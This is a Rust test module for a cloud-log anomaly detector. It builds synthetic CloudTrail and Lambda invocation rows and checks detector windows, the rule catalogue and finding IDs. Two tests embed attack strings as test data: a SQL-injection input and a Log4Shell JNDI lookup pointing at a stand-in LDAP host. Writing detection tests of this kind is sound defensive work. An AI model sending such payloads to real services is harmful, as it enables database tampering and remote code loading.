//! Detector tests on synthetic batches: each detector fires on a clear anomaly,
//! stays silent on normal variation (thousands of benign windows drawn with a seeded
//! RNG), respects its minimum support, and explains what it found.
//!
//! - this file: helpers (rows, batches, hand-made baselines, a Poisson sampler) and
//!   the tests of the catalogue and of the shared machinery;
//! - one file per detector.

mod access_denied;
mod brute_force;
mod enumeration;
mod error_spike;
mod exec_role;
mod flood;
mod new_api;
mod new_region;
mod outlier;
mod spray;

use std::collections::{BTreeMap, HashMap};
use std::path::PathBuf;
use std::sync::Arc;

use arrow::record_batch::RecordBatch;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Value};
use tripline_ingest::Table;

use super::*;
use crate::baseline::{BaselineMeta, Baselines, TimeRange};
use crate::model::{Finding, MAX_EVIDENCE};

/// 2024-01-01T00:00:00Z, a Monday.
pub(crate) const T0: i64 = 1_704_067_200_000_000;
pub(crate) const SEC: i64 = 1_000_000;
pub(crate) const MIN: i64 = 60 * SEC;
pub(crate) const HOUR: i64 = 60 * MIN;

pub(crate) fn ts(us: i64) -> String {
    crate::baseline::sql::literal(us)
}

/// Rows into a batch of `table`'s schema.
pub(crate) fn batch(table: Table, rows: &[Value]) -> RecordBatch {
    crate::baseline::tests::batch(table.schema(), rows)
}

/// An invocation row.
pub(crate) fn inv(t: i64, id: &str, function: &str, source: &str) -> Value {
    json!({
        "time": ts(t), "account_id": "111122223333", "region": "us-east-1",
        "function_name": function, "request_id": id, "trigger": "apigw_http",
        "source_ip": source, "http_method": "GET", "path": "/orders", "source": "test@0",
    })
}

/// A CloudTrail row.
pub(crate) fn ct(t: i64, id: &str, principal: &str, api: (&str, &str)) -> Value {
    json!({
        "event_time": ts(t), "event_id": id, "event_source": api.0, "event_name": api.1,
        "aws_region": "us-east-1", "account_id": "111122223333", "source_ip": "203.0.113.7",
        "user_agent": "aws-cli/2.15.0", "principal_type": "AssumedRole",
        "principal_arn": principal, "session_issuer_arn": principal, "source": "test@0",
    })
}

/// A runtime row.
pub(crate) fn rt(t: i64, id: &str, function: &str, kind: &str) -> Value {
    json!({"time": ts(t), "function_name": function, "request_id": id, "kind": kind, "source": "test@0"})
}

/// Empty baselines covering four weeks before `T0`.
pub(crate) fn baselines() -> Baselines {
    let range = TimeRange::new(T0 - 28 * 24 * HOUR, T0);
    Baselines {
        meta: BaselineMeta {
            format: crate::baseline::FORMAT,
            version: "v1".into(),
            built_at: ts(T0),
            built_at_us: T0,
            time_range: Some(range),
            rows: BTreeMap::new(),
            top_shapes: 200,
            memory_limit: 1 << 30,
        },
        dir: PathBuf::from("/nonexistent"),
        principals: HashMap::new(),
        functions: HashMap::new(),
        accounts: HashMap::new(),
        function_roles: HashMap::new(),
        pooled_events: 0,
        pooled_access_denied: 0,
        rows_loaded: BTreeMap::new(),
    }
}

/// Runs one detector over `batches` and returns every finding.
pub(crate) fn run(det: &mut dyn Detector, batches: &[(Table, RecordBatch)]) -> Vec<Finding> {
    for (table, b) in batches {
        det.process(*table, b).expect("batch is well formed");
    }
    det.finish()
}

/// Rows cut into batches of at most 4096.
pub(crate) fn batches(table: Table, rows: &[Value]) -> Vec<(Table, RecordBatch)> {
    rows.chunks(4096)
        .map(|c| (table, batch(table, c)))
        .collect()
}

/// The detector `name` built by the public factory.
pub(crate) fn detector(name: &str, b: Option<Baselines>, cfg: &AnomalyConfig) -> Box<dyn Detector> {
    detectors(b.map(Arc::new), cfg)
        .into_iter()
        .find(|d| d.name() == name)
        .unwrap_or_else(|| panic!("detector {name} is built"))
}

/// A seeded RNG.
pub(crate) fn rng(seed: u64) -> ChaCha8Rng {
    ChaCha8Rng::seed_from_u64(seed)
}

/// A Poisson draw (Knuth; fine for the small means of these tests).
pub(crate) fn poisson(rng: &mut ChaCha8Rng, mean: f64) -> u64 {
    let limit = (-mean).exp();
    let mut k = 0;
    let mut p: f64 = rng.random();
    while p > limit {
        k += 1;
        p *= rng.random::<f64>();
    }
    k
}

/// A binomial draw.
pub(crate) fn binomial(rng: &mut ChaCha8Rng, n: u64, p: f64) -> u64 {
    (0..n).filter(|_| rng.random::<f64>() < p).count() as u64
}

/// Every finding explains itself: anomaly rule, stable uid, message, statistics
/// under the agreed keys, contributing events.
pub(crate) fn assert_explained(f: &Finding) {
    assert_eq!(f.rule.kind, "anomaly");
    assert!(f.rule.id.starts_with("tripline.anomaly."), "{}", f.rule.id);
    assert!(
        f.rule.tags.iter().any(|t| t.starts_with("attack.t")),
        "{:?}",
        f.rule.tags
    );
    assert!(!f.rule.falsepositives.is_empty());
    assert_eq!(f.uid.len(), 32);
    assert!(f.uid.bytes().all(|b| b.is_ascii_hexdigit()));
    assert!(!f.message.is_empty());
    for key in ["method", "observed"] {
        assert!(
            f.stats.contains_key(key),
            "{} lacks {key}: {:?}",
            f.rule.id,
            f.stats
        );
    }
    assert!(
        f.stats.contains_key("p_value") || f.stats.contains_key("score"),
        "{:?}",
        f.stats
    );
    assert!(f.stats.contains_key("top_contributors"), "{:?}", f.stats);
    assert!(f.count > 0 && f.first_seen_us <= f.last_seen_us);
    assert!(!f.evidence.is_empty() && f.evidence.len() <= MAX_EVIDENCE);
    assert!(!f.related.is_empty());
    assert!(!f.group.is_empty());
    assert!(f.window_start_us <= f.first_seen_us);
}

#[test]
fn without_baselines_only_self_contained_detectors_run() {
    let cfg = AnomalyConfig::default();
    let mut names: Vec<&str> = detectors(None, &cfg).iter().map(|d| d.name()).collect();
    names.sort_unstable();
    assert_eq!(
        names,
        [
            "brute_force",
            "enumeration",
            "exec_role_outside_lambda",
            "spray"
        ]
    );
    let left_out = skipped(false, &cfg);
    assert_eq!(left_out.len(), 6);
    assert!(left_out.iter().all(|(_, why)| *why == "needs baselines"));
    assert_eq!(detectors(Some(Arc::new(baselines())), &cfg).len(), 10);
    assert!(skipped(true, &cfg).is_empty());

    let mut off = AnomalyConfig::default();
    off.spray.enabled = false;
    off.flood.enabled = false;
    assert!(detectors(Some(Arc::new(baselines())), &off)
        .iter()
        .all(|d| d.name() != "spray" && d.name() != "invocation_flood"));
    assert!(skipped(true, &off).contains(&("spray", "disabled")));
}

#[test]
fn catalogue_rules_are_anomalies_with_stable_ids() {
    let rules = catalog();
    assert_eq!(rules.len(), 11);
    let mut ids: Vec<&str> = rules.iter().map(|r| r.id.as_str()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), 11, "ids are unique");
    for r in &rules {
        assert_eq!(r.kind, "anomaly");
        assert!(r.id.starts_with("tripline.anomaly."));
        assert!(!r.title.is_empty() && !r.description.is_empty());
    }
}

#[test]
fn a_batch_without_its_time_column_is_refused() {
    let schema = Arc::new(arrow::datatypes::Schema::new(vec![
        arrow::datatypes::Field::new("event_name", arrow::datatypes::DataType::Utf8, true),
    ]));
    let b = RecordBatch::try_new(
        schema,
        vec![Arc::new(arrow::array::StringArray::from(vec!["x"]))],
    )
    .unwrap();
    for mut d in detectors(Some(Arc::new(baselines())), &AnomalyConfig::default()) {
        let err = d.process(Table::CloudTrail, &b);
        // Detectors that do not read CloudTrail ignore the batch.
        if let Err(e) = err {
            assert!(
                matches!(
                    e,
                    crate::DetectError::BadBatch {
                        table: "cloudtrail",
                        ..
                    }
                ),
                "{e}"
            );
            assert!(e.to_string().contains("event_time"), "{e}");
        }
    }
}

#[test]
fn windows_close_on_advance_and_late_events_are_dropped() {
    // A burst of an attack shape in the first 10-minute window.
    let cfg = AnomalyConfig::default();
    let mut d = detector("spray", None, &cfg);
    let rows: Vec<Value> = (0..30)
        .map(|i| {
            let mut r = inv(T0 + i * SEC, &format!("r{i}"), "orders", "198.51.100.9");
            r["payload_shape"] = json!("GET {query:{q:' or 0=0--}}");
            r
        })
        .collect();
    d.process(Table::Invocations, &batch(Table::Invocations, &rows))
        .unwrap();
    assert!(
        d.advance(T0 + 5 * MIN).is_empty(),
        "the window is still open"
    );
    let found = d.advance(T0 + 10 * MIN);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].group["mode"], "burst");
    // The same events again, late: dropped, no second finding.
    d.process(Table::Invocations, &batch(Table::Invocations, &rows))
        .unwrap();
    assert!(d.finish().iter().all(|f| f.group["mode"] != "burst"));
}

#[test]
fn same_input_gives_same_uids() {
    let rows: Vec<Value> = (0..40)
        .map(|i| {
            let mut r = inv(T0 + i * SEC, &format!("r{i}"), "orders", "198.51.100.9");
            r["payload_shape"] = json!("GET {query:{q:${jndi:ldap://a.a/a}}}");
            r
        })
        .collect();
    let uids = || {
        let mut d = detector("spray", None, &AnomalyConfig::default());
        let mut u: Vec<String> = run(d.as_mut(), &batches(Table::Invocations, &rows))
            .into_iter()
            .map(|f| f.uid)
            .collect();
        u.sort();
        u
    };
    let first = uids();
    assert!(!first.is_empty());
    assert_eq!(first, uids());
}
